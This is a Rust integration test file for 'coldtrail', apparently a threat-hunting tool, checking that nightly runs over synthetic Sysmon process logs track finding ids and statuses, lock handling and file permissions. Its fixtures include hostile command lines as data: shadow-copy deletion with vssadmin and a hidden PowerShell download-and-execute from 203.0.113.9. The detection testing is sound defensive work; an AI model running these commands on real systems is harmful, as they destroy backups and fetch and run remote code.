//! Three nights in a row with new evidence: ids go on, statuses are right, the script tells.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

use crate::support::{coldtrail, json, json_lines, root};

/// A process start as `evtx_dump` prints it.
fn start(record: u32, time: &str, image: &str, parent: &str, command: &str) -> String {
    serde_json::json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS01.corp.example", "EventRecordID": record,
            "TimeCreated": {"#attributes": {"SystemTime": time}},
        },
        "EventData": {
            "UtcTime": time.replace('T', " ").replace('Z', ""), "ProcessGuid": format!("{{A23EAE89-BD56-67E0-0000-0000{record:08}}}"),
            "ProcessId": 5000 + record, "Image": image, "CommandLine": command, "User": "CORP\\ann",
            "ParentProcessGuid": "{A23EAE89-BD56-67E0-0000-000000000001}", "ParentProcessId": 4900, "ParentImage": parent,
        },
    }})
    .to_string()
}

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// What arrives in a night.
fn arrives(logs: &Path, night: usize) {
    let lines = match night {
        1 => vec![start(
            1,
            "2026-03-02T09:00:00.000Z",
            CMD,
            WORD,
            "cmd /c powershell -c hostname",
        )],
        // More of the same, and something else by the same program.
        2 => vec![
            start(
                2,
                "2026-03-02T09:01:00.000Z",
                CMD,
                WORD,
                "cmd /c powershell -c hostname",
            ),
            start(
                3,
                "2026-03-02T09:02:00.000Z",
                r"C:\Windows\System32\vssadmin.exe",
                CMD,
                "vssadmin.exe delete shadows /all /quiet",
            ),
            start(
                4,
                "2026-03-02T09:03:00.000Z",
                POWERSHELL,
                WORD,
                "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
            ),
        ],
        // Nothing new for that finding, and another one days later.
        _ => vec![start(
            9,
            "2026-03-09T14:00:00.000Z",
            CMD,
            r"C:\inetpub\w3wp.exe",
            "cmd /c whoami",
        )],
    };
    fs::write(logs.join(format!("night-{night}.jsonl")), lines.join("\n") + "\n").unwrap();
}

fn script(home: &Path, logs: &Path, told: &Path, flags: &[&str]) -> Output {
    Command::new("bash")
        .arg(root().join("scripts/nightly.sh"))
        .arg(logs)
        .arg("--")
        .args(flags)
        .env("COLDTRAIL", env!("CARGO_BIN_EXE_coldtrail"))
        .env("COLDTRAIL_HOME", home)
        .env("COLDTRAIL_FAIL", "info")
        .env("COLDTRAIL_KEEP", "2")
        .env("COLDTRAIL_NOTIFY", format!("cat > '{}'", told.display()))
        .output()
        .unwrap()
}

/// Id and status of each finding of the host.
fn state(home: &Path) -> Vec<(String, String)> {
    let findings = json_lines(&home.join("latest/findings.jsonl"));
    let text = |f: &Value, k: &str| f[k].as_str().unwrap().to_owned();
    findings
        .iter()
        .map(|f| (text(f, "finding_id"), text(f, "status")))
        .collect()
}

#[test]
fn three_nights_in_a_row_through_the_script() {
    let (home, logs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (home, logs) = (home.path(), logs.path());
    let told = home.join("told.txt");
    let mut nights = Vec::new();
    let mut codes = Vec::new();
    for night in 1..=4 {
        // The fourth night brings nothing.
        if night < 4 {
            arrives(logs, night);
        }
        fs::write(&told, "").unwrap();
        let done = script(home, logs, &told, &[]);
        codes.push(done.status.code());
        nights.push(state(home));
        let said = fs::read_to_string(&told).unwrap();
        assert_eq!(
            said.contains("since the last run"),
            done.status.code() != Some(0),
            "{said}"
        );
        let baseline = &json(&home.join("latest/run.json"))["baseline"];
        let count = |status: &str| nights.last().unwrap().iter().filter(|(_, s)| s == status).count() as u64;
        for status in ["new", "changed", "ongoing", "gone"] {
            assert_eq!(baseline[status], count(status), "night {night}: {baseline}");
        }
    }
    assert_eq!(codes, [Some(1), Some(1), Some(1), Some(0)], "{nights:?}");
    let first = &nights[0][0].0;
    assert_eq!(nights[0], [(first.clone(), "new".to_owned())]);
    assert!(nights[1].contains(&(first.clone(), "changed".to_owned())), "{nights:?}");
    assert!(nights[2].contains(&(first.clone(), "ongoing".to_owned())), "{nights:?}");
    assert_eq!(nights[2].iter().filter(|(_, s)| s == "new").count(), 1, "{nights:?}");
    assert!(nights[3].iter().all(|(_, s)| s == "ongoing"), "{nights:?}");
    assert_eq!(fs::read_dir(home.join("nights")).unwrap().count(), 2, "older copies go");
}

/// The script with the little that cron sets.
fn from_cron(home: &Path, program: &Path, input: &Path) -> Output {
    Command::new("/bin/sh")
        .arg("-c")
        .arg(format!(
            "bash '{}' '{}'",
            root().join("scripts/nightly.sh").display(),
            input.display()
        ))
        .current_dir("/")
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("COLDTRAIL", program)
        .env("COLDTRAIL_HOME", home)
        .output()
        .unwrap()
}

#[test]
fn the_script_runs_with_what_cron_sets_and_keeps_reports_from_others() {
    use std::os::unix::fs::PermissionsExt;
    let (home, logs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    arrives(logs.path(), 2);
    let done = from_cron(home.path(), Path::new(env!("CARGO_BIN_EXE_coldtrail")), logs.path());
    assert!(matches!(done.status.code(), Some(0 | 1)), "{done:?}");
    for file in ["latest/report.html", "latest/findings.jsonl", "last-run.txt"] {
        let mode = fs::metadata(home.path().join(file)).unwrap().permissions().mode();
        assert_eq!(mode & 0o007, 0, "{file} is open to others: {mode:o}");
    }
    let nowhere = from_cron(home.path(), Path::new("/nowhere/coldtrail"), logs.path());
    assert_eq!(nowhere.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&nowhere.stderr).contains("set COLDTRAIL"),
        "{nowhere:?}"
    );
}

#[test]
fn a_night_that_finds_the_lake_locked_leaves_what_the_last_one_said() {
    let (home, logs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    arrives(logs.path(), 2);
    let told = home.path().join("told.txt");
    script(home.path(), logs.path(), &told, &[]);
    let said = fs::read_to_string(home.path().join("last-run.txt")).unwrap();
    let lock = fs::File::open(home.path().join("lake/_coldtrail/lock")).unwrap();
    lock.lock().unwrap();
    let done = script(home.path(), logs.path(), &told, &[]);
    assert_eq!(done.status.code(), Some(5));
    assert!(fs::read_to_string(&told).unwrap().contains("locked"));
    assert_eq!(fs::read_to_string(home.path().join("last-run.txt")).unwrap(), said);
    let left = fs::read_dir(home.path()).unwrap().map(|e| e.unwrap().file_name());
    assert!(
        left.into_iter()
            .all(|n| !n.to_string_lossy().starts_with("last-run.") || n == "last-run.txt")
    );
}

#[test]
fn what_is_filtered_away_is_gone_and_counts_nowhere() {
    let (out, logs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    arrives(logs.path(), 2);
    let hunt = |flags: &[&str]| {
        let mut args = vec!["hunt".to_owned(), logs.path().display().to_string()];
        args.extend(["--out".to_owned(), out.path().display().to_string()]);
        args.extend(flags.iter().map(|f| (*f).to_owned()));
        coldtrail(&args)
    };
    assert_eq!(hunt(&["--fail-on", "info"]).status.code(), Some(1));
    let gone = hunt(&["--since-last", "--exclude-hosts", "*", "--fail-on", "info"]);
    assert_eq!(gone.status.code(), Some(0), "what is gone fails nothing");
    assert!(String::from_utf8_lossy(&gone.stdout).contains("gone"));
    let findings = json_lines(&out.path().join("findings.jsonl"));
    assert!(!findings.is_empty() && findings.iter().all(|f| f["status"] == "gone"));
    let run = json(&out.path().join("run.json"));
    assert!(run["findings"].as_object().unwrap().values().all(|n| n == 0));
    // What was gone is forgotten in the night after.
    hunt(&["--since-last", "--exclude-hosts", "*"]);
    assert!(json_lines(&out.path().join("findings.jsonl")).is_empty());
}

#[test]
fn a_baseline_that_is_not_there_ends_the_run_before_it_starts() {
    let out = tempfile::tempdir().unwrap();
    let done = coldtrail(&[
        "hunt",
        root().join("sample_data/signals/PROC-01/fires").to_str().unwrap(),
        "--out",
        out.path().join("out").to_str().unwrap(),
        "--baseline",
        out.path().join("nowhere").to_str().unwrap(),
    ]);
    assert_eq!(done.status.code(), Some(2));
    let said = String::from_utf8_lossy(&done.stderr);
    assert!(said.contains("nowhere") && said.contains("--baseline"), "{said}");
    assert!(!out.path().join("out").exists(), "nothing was written");
}
